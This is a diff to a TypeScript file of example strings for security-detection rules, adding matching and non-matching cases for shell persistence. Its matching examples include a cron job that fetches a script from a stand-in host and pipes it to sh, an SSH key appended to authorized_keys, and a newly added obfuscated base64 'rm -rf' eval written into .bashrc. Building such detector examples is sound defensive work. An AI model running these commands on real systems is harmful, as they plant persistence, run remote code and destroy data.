@@ -94,6 +94,7 @@ export const RULE_EXAMPLES: Readonly<Record<FindingRuleName, RuleExamples>> = {
     ],
     other: [
       "The user must not be logged in.",
+      "The user does not need to know which is the actual default value of the flag.",
       "Show the user a message.",
       "Errors are silently ignored.",
       "The promise fails silently.",
@@ -315,8 +316,11 @@ export const RULE_EXAMPLES: Readonly<Record<FindingRuleName, RuleExamples>> = {
     matching: [
       '(crontab -l; echo "*/5 * * * * curl -s http://x.example.ru/c | sh") | crontab -',
       'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7" >> ~/.ssh/authorized_keys',
+      `echo 'eval "$(printf %s cm0gLXJm | base64 -d)"' >> ~/.bashrc`,
     ],
     other: [
+      `echo 'eval "$(~/.local/bin/mise activate bash)"' >> ~/.bashrc`,
+      `echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zshrc`,
       "cat id_rsa.pub >> ~/.ssh/authorized_keys",
       "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
       "* * * * * cd /app && php artisan schedule:run",
